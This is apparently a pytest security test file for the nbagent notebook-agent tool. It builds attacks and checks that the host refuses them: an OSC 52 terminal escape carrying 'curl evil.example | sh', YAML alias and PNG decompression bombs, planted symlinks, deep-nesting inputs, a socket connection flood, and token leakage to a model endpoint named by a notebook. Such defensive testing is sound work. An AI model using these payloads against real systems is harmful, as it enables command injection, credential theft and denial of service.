"""Trust boundaries: what a kernel printed and what a notebook says are untrusted input to the host.

Each test writes its own payload, shows the attack working where the protection is absent, and
then that nbagent stops it. These tests need no kernel; those that do are in test_trust_kernel.py.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import shutil
from pathlib import Path
from typing import Any
from urllib.parse import quote

import nbformat
import pytest
from nbformat.v4 import new_markdown_cell, new_notebook

from nbagent import NotebookRecorder, UsageError, export_html, verify_notebook
from nbagent.agent.observe import escape_controls
from nbagent.batch.runner import StatusFile, TaskRecord
from nbagent.cli import main
from nbagent.models import resolve_model
from nbagent.notebook.recorder import file_digest
from nbagent.notebook.redact import Redactor
from nbagent.notebook.safe_files import UnsafeFileError, append_line, write_atomic
from nbagent.testing.openai_server import LoopbackRequestHandler, OpenAICompatibleServer

CLEAR_SCREEN = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"


def one_error_line(capsys: pytest.CaptureFixture[str], command: str) -> str:
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith(f"nbagent {command}: error:"), err
    return lines[0]


# -- 1. the notebook never chooses the model (resume) ------------------------------------------


class _TokenCatcher(OpenAICompatibleServer):
    """A loopback chat server that also records the Authorization header of every request."""

    def __init__(self) -> None:
        self.authorizations: list[str] = []
        super().__init__(["Thought: I drive your run now."])

    def _handler_class(self) -> type[LoopbackRequestHandler]:
        base: Any = super()._handler_class()
        server = self

        class Handler(base):  # type: ignore[misc,valid-type]
            def do_POST(self) -> None:
                server.authorizations.append(self.headers.get("Authorization", ""))
                super().do_POST()

        return Handler


def _resumable_notebook(path: Path, model: str) -> Path:
    nb = new_notebook()
    task = new_markdown_cell("# What is 6 x 7?")
    task.metadata["nbagent"] = {"role": "task"}
    nb.cells = [task]
    nb.metadata["nbagent"] = {"runs": [{"question": "What is 6 x 7?", "model": model, "files": []}]}
    nbformat.write(nb, path)
    return path


def test_resume_never_sends_credentials_to_a_model_the_notebook_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    token = "hf_" + "q" * 30
    monkeypatch.setenv("HF_TOKEN", token)
    monkeypatch.delenv("NBAGENT_MODEL", raising=False)
    with _TokenCatcher() as catcher:
        recorded = f"hf:{catcher.url}"
        # The attack: a model taken from the notebook gets the user's token.
        model = resolve_model(recorded)
        reply = model.complete([{"role": "user", "content": "hi"}])
        model.close()
        assert reply.text == "Thought: I drive your run now."
        assert catcher.authorizations and token in catcher.authorizations[0]
        catcher.authorizations.clear()

        notebook = _resumable_notebook(tmp_path / "run.ipynb", recorded)
        assert main(["resume", str(notebook)]) == 2
        line = one_error_line(capsys, "resume")
        assert recorded in line and "--model" in line
        assert catcher.authorizations == []


# -- 2. structurally odd notebooks are one error ------------------------------------------------


def _odd(tmp_path: Path, name: str, change: Any) -> Path:
    nb = json.loads(_resumable_notebook(tmp_path / "base.ipynb", "scripted:x.json").read_text())
    (tmp_path / "base.ipynb").unlink()
    change(nb)
    path = tmp_path / f"{name}.ipynb"
    path.write_text(json.dumps(nb))
    return path


ODD_NOTEBOOKS = {
    "runs-a-string": lambda nb: nb["metadata"]["nbagent"].__setitem__("runs", "oops"),
    "environment-a-string": lambda nb: nb["metadata"]["nbagent"].__setitem__("environment", "x"),
    "run-files-a-number": lambda nb: nb["metadata"]["nbagent"]["runs"][0].__setitem__("files", 3),
    "nbformat-5": lambda nb: nb.__setitem__("nbformat", 5),
    "cells-not-a-list": lambda nb: nb.__setitem__("cells", {"0": {}}),
    "cell-metadata-a-list": lambda nb: nb["cells"][0]["metadata"].__setitem__("nbagent", ["task"]),
    "nbagent-a-list": lambda nb: nb["metadata"].__setitem__("nbagent", [1]),
    "packages-a-list": lambda nb: nb["metadata"]["nbagent"].__setitem__("environment", {"packages": [1]}),
}


@pytest.mark.parametrize("command", ["verify", "export", "resume"])
@pytest.mark.parametrize("odd", sorted(ODD_NOTEBOOKS))
def test_odd_notebooks_are_one_clear_error(
    odd: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _odd(tmp_path, odd, ODD_NOTEBOOKS[odd])
    args = {"verify": ["verify", str(path)], "export": ["export", str(path), "--html"]}.get(
        command, ["resume", str(path), "--model", "scripted:none.json"]
    )
    before = sorted(p.name for p in tmp_path.iterdir())
    assert main(args) == 2
    line = one_error_line(capsys, command)
    assert str(path) in line
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing written


def test_deeply_nested_notebook_is_one_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "deep.ipynb"
    path.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert main(["verify", str(path)]) == 2
    assert "nested too deeply" in one_error_line(capsys, "verify")
    with pytest.raises(UsageError, match="nested too deeply"):
        verify_notebook(path)


# -- 3. bad numbers, alias bombs, deep nesting, unwritable outputs -------------------------------


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "0"])
@pytest.mark.parametrize("command", ["run", "verify", "batch"])
def test_timeouts_that_are_not_positive_numbers_are_refused(
    value: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps({"id": "a", "question": "q"}) + "\n")
    nb = _resumable_notebook(tmp_path / "nb.ipynb", "scripted:x.json")
    args = {
        "run": ["run", "q", "--model", "scripted:x.json", "-o", str(tmp_path / "out" / "a.ipynb")],
        "verify": ["verify", str(nb)],
        "batch": ["batch", str(tasks), "--out", str(tmp_path / "runs")],
    }[command]
    assert main([*args, f"--timeout={value}"]) == 2
    assert "timeout" in one_error_line(capsys, command)
    assert not (tmp_path / "out").exists() and not (tmp_path / "runs").exists()


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "-3"])
def test_task_file_timeouts_must_be_positive_numbers(
    value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(f'{{"id": "a", "question": "q", "timeout": {value}}}\n')
    assert main(["batch", str(tasks), "--out", str(tmp_path / "runs")]) == 2
    err = capsys.readouterr().err
    assert "field 'timeout'" in err and "a positive number" in err and len(err.strip().splitlines()) == 1


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    bomb = "- id: t\n  question: q\n  parameters:\n" + "\n".join("    " + line for line in lines) + "\n"
    assert len(bomb) < 1200  # 9**10 strings once expanded
    tasks = tmp_path / "bomb.yaml"
    tasks.write_text(bomb)
    assert main(["batch", str(tasks), "--out", str(tmp_path / "runs")]) == 2
    err = capsys.readouterr().err
    assert "aliases" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "runs").exists()


def test_a_few_yaml_aliases_still_work(tmp_path: Path) -> None:
    from nbagent.batch.tasks import load_tasks

    tasks = tmp_path / "tasks.yaml"
    tasks.write_text(
        "- id: a\n  question: q\n  parameters: &p {x: 1}\n- id: b\n  question: r\n  parameters: *p\n"
    )
    assert [t.parameters for t in load_tasks(tasks)] == [{"x": 1}, {"x": 1}]


@pytest.mark.parametrize("kind", ["jsonl", "yaml", "scripted"])
def test_deep_nesting_in_task_and_scripted_files_is_one_error(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = "[" * 200_000 + "]" * 200_000
    if kind == "scripted":
        script = tmp_path / "replies.json"
        script.write_text(deep)
        args = ["run", "q", "--model", f"scripted:{script}", "-o", str(tmp_path / "a.ipynb")]
        command = "run"
    else:
        tasks = tmp_path / f"tasks.{kind}"
        tasks.write_text(
            f'{{"id": "a", "question": "q", "parameters": {{"x": {deep}}}}}\n'
            if kind == "jsonl"
            else "- id: a\n  question: q\n  parameters:\n    x: " + deep + "\n"
        )
        args = ["batch", str(tasks), "--out", str(tmp_path / "runs")]
        command = "batch"
    assert main(args) == 2
    err = capsys.readouterr().err
    assert "nested too deeply" in err and len(err.strip().splitlines()) == 1, err
    assert command in err


def test_an_unwritable_output_is_refused_before_the_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    script = tmp_path / "replies.json"
    script.write_text(json.dumps(["```python\nfinal_answer(1)\n```"]))
    assert main(["run", "q", "--model", f"scripted:{script}", "-o", "/proc/x.ipynb"]) == 2
    assert "/proc" in one_error_line(capsys, "run")
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps({"id": "a", "question": "q"}) + "\n")
    assert main(["batch", str(tasks), "--out", "/proc/x", "--model", f"scripted:{script}"]) == 2
    assert "/proc" in one_error_line(capsys, "batch")


def test_a_refused_run_creates_no_folders(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    output = tmp_path / "new" / "dir" / "a.ipynb"
    args = ["run", "q", "--model", "scripted:missing.json", "-o", str(output)]
    assert main(args) == 2
    assert "missing.json" in one_error_line(capsys, "run")
    assert not (tmp_path / "new").exists()
    assert main([*args[:3], "scripted:x.json", "-o", str(output), "--kernel", "no-such-kernel"]) == 2
    assert not (tmp_path / "new").exists()


# -- 4. host writes never follow planted symlinks ------------------------------------------------


def test_host_writes_do_not_follow_symlinks_planted_by_the_kernel(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    run = tmp_path / "run"
    run.mkdir()
    notebook = run / "out.ipynb"
    # The attack, as code in the kernel would set it up: the old temporary name was predictable.
    planted = run / f".{notebook.name}.{os.getpid()}.nbagent-tmp"
    planted.symlink_to(victim)
    with open(planted, "w") as f:  # what a plain write through that name does
        f.write("owned")
    assert victim.read_text() == "owned"
    victim.write_text("precious")

    notebook.symlink_to(victim)  # and a symlink at the notebook's own name
    recorder = NotebookRecorder(notebook)
    recorder.add_note("hello", role="note")
    recorder.save()
    assert victim.read_text() == "precious"
    assert not notebook.is_symlink() and nbformat.read(notebook, as_version=4).cells[0].source == "hello"
    assert planted.is_symlink()  # left alone, not written through

    write_atomic(run / "report.html", "<p>x</p>")
    (run / "status.jsonl").symlink_to(victim)
    with pytest.raises(UnsafeFileError, match="symlink"):
        append_line(run / "status.jsonl", "{}")
    with pytest.raises(UnsafeFileError):
        StatusFile(run / "status.jsonl").append(TaskRecord(id="a", status="ok"))
    assert victim.read_text() == "precious"
    assert not [p for p in run.iterdir() if p.name.endswith(".nbagent-tmp") and not p.is_symlink()]


def test_data_files_are_never_copied_through_a_planted_symlink(tmp_path: Path) -> None:
    from nbagent.agent.agent import _bring_files

    data = tmp_path / "sales.csv"
    data.write_text("a,b\n1,2\n")
    run = tmp_path / "run"
    run.mkdir()
    victim = tmp_path / "victim.csv"  # does not exist yet: a dangling link makes a plain copy create it
    (run / "sales.csv").symlink_to(victim)
    shutil.copy2(data, run / "sales.csv")  # the attack: a plain copy writes where the link points
    assert victim.read_text() == data.read_text()
    victim.unlink()
    with pytest.raises(UsageError, match="symlink"):
        _bring_files([data], run)
    assert not victim.exists()
    (run / "sales.csv").unlink()
    assert _bring_files([data], run) == {"sales.csv": file_digest(data)}
    assert (run / "sales.csv").read_text() == "a,b\n1,2\n" and not (run / "sales.csv").is_symlink()


def test_export_and_verify_record_replace_a_planted_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    notebook = _resumable_notebook(tmp_path / "nb.ipynb", "scripted:x.json")
    report = tmp_path / "nb.html"
    report.symlink_to(victim)
    export_html(notebook, report, overwrite=True)
    assert victim.read_text() == "precious" and not report.is_symlink()


# -- 5. the terminal is safe ----------------------------------------------------------------------


def test_control_characters_are_escaped_in_what_nbagent_prints(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    payload = f"42{CLEAR_SCREEN}{OSC52}\x9b31m"
    escaped = escape_controls(payload)
    assert "\x1b" not in escaped and "\x07" not in escaped and "\x9b" not in escaped
    assert escaped.startswith("42\\x1b[2J") and "\\x1b]52;c;" in escaped and "\\x07" in escaped
    # An error that names a hostile file name: printed, but escaped.
    assert main(["verify", str(tmp_path / f"nb{payload}.ipynb")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b]52" in err


# -- 6. redaction --------------------------------------------------------------------------------


def test_redaction_covers_more_secret_names_and_reencoded_copies() -> None:
    password = "hunter2-Sup3rSecret"
    env = {
        "SLACK_WEBHOOK_URL": "https://hooks.slack.example/services/T000/B000/XXXXXXXXXXXXXXXX",
        "REDIS_URL": f"redis://default:{password}@cache.internal:6379/0",
        "MONGODB_URI": "mongodb+srv://admin:m0ng0-Passw0rd@db.example/prod",
        "TOKEN": "tok-1234567890abcdef",
        "APIKEY": "ak-abcdef1234567890",
        "GITLAB_PAT": "glpat-abcdefghijklmnop",
        "BEARER": "bearer-value-1234567890",
        "BUILD_WEBHOOK_SECRETS": "whk-abcdefghijk123",
        "HOME": "/root",
        "PATH": "/usr/bin:/bin",
        "SHORT_TOKEN": "abc",
        "CACHE_URL": "redis://cache.internal:6379/0",
    }
    redactor = Redactor.from_environment(env)
    secrets = [v for k, v in env.items() if k not in ("HOME", "PATH", "SHORT_TOKEN", "CACHE_URL")]
    for value in secrets:
        for copy in (
            value,
            base64.b64encode(value.encode()).decode(),
            value.encode().hex(),
            quote(value, safe=""),
        ):
            text = redactor.text(f"leak: {copy} end")
            assert copy not in text and "[redacted" in text, (value, copy)
    # The password inside a URL, wherever it appears; the rest of the URL stays readable.
    text = redactor.text(f"connecting with {password}")
    assert password not in text
    # Ordinary values stay.
    plain = "see /usr/bin:/bin and /root, redis://cache.internal:6379/0, abc"
    assert redactor.text(plain) == plain


# -- 7. huge images from the kernel ----------------------------------------------------------------


def png_bomb(width: int = 20_000, height: int = 20_000) -> str:
    """A PNG header claiming ``width`` x ``height`` pixels, a few dozen bytes long."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )
    return base64.b64encode(data).decode()


def test_a_decompression_bomb_is_described_not_decoded() -> None:
    import io

    from PIL import Image

    from nbagent import Execution, Observer
    from nbagent.repro.compare import image_difference

    bomb = png_bomb()
    with pytest.raises(Image.DecompressionBombError):  # the attack: decoding it on the host
        Image.open(io.BytesIO(base64.b64decode(bomb)))
    figure = nbformat.v4.new_output("display_data", data={"image/png": bomb, "text/plain": "<Figure>"})
    observation = Observer(max_image_side=1024).observe(Execution(code="show()", outputs=[figure]))
    assert "20000x20000" in observation.text and observation.images == []
    assert image_difference(bomb, png_bomb(20_000, 20_001)) == 1.0


# -- 8. the host bridge under a flood --------------------------------------------------------------


def test_the_host_bridge_bounds_floods_and_binds_calls_to_their_run() -> None:
    import socket
    import threading

    from nbagent.kernel_code.host_bridge import HostToolError, _NbagentHost
    from nbagent.tools.bridge import HostBridge

    def raw(address: str, payload: bytes) -> dict[str, Any]:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(10)
            s.connect(address)
            try:
                s.sendall(payload)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the bridge stopped reading: its answer is waiting
            answer: dict[str, Any] = json.loads(s.makefile("rb").readline())
            return answer

    async def scenario() -> None:
        loop = asyncio.get_running_loop()
        run_a = HostBridge(
            {"double": lambda n: n * 2}, max_connections=4, idle_timeout=1.0, max_request_bytes=1 << 20
        )
        run_b = HostBridge({"double": lambda n: n * 2})
        address = run_a.start()
        run_b.start()
        run_a.attach(loop)
        run_b.attach(loop)
        try:
            # The attack, where the bound is lifted: every idle connection holds a thread.
            unbounded = HostBridge({}, max_connections=10_000, idle_timeout=60)
            unbounded_address = unbounded.start()
            before = threading.active_count()
            held = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(100)]
            for s in held:
                s.connect(unbounded_address)
            await asyncio.sleep(0.5)
            assert threading.active_count() >= before + 90
            for s in held:
                s.close()
            unbounded.close()
            await asyncio.sleep(0.5)

            before = threading.active_count()
            idle = []
            for _ in range(60):  # a flood of connections that never send a request
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(address)
                idle.append(s)
            await asyncio.sleep(0.3)
            assert threading.active_count() <= before + 4
            refused = [s for s in idle if s.recv(4096)]  # the ones over the limit are told at once
            assert len(refused) >= 50
            await asyncio.sleep(1.2)  # the idle timeout frees the slots
            for s in idle:
                s.close()

            request = {"tool": "double", "args": {"n": {"kind": "json", "value": 21}}}
            too_long = b'{"tool": "double", "args": {"n": "' + b"x" * (2 << 20)
            assert "longer than" in (await asyncio.to_thread(raw, address, too_long))["error"]
            for token in (None, run_b.token):  # no token, or another run's: refused
                answer = await asyncio.to_thread(
                    raw, address, json.dumps({**request, "token": token}).encode() + b"\n"
                )
                assert "refused" in answer["error"]

            kernel_side = _NbagentHost()
            kernel_side.connect(address, run_a.token)
            assert await asyncio.to_thread(kernel_side.call, "double", {"n": 21}) == 42
            stranger = _NbagentHost()
            stranger.connect(address, run_b.token)
            with pytest.raises(HostToolError, match="refused"):
                await asyncio.to_thread(stranger.call, "double", {"n": 1})
            assert [c.tool for c in run_a.calls] == ["double"]
        finally:
            run_a.close()
            run_b.close()

    asyncio.run(scenario())
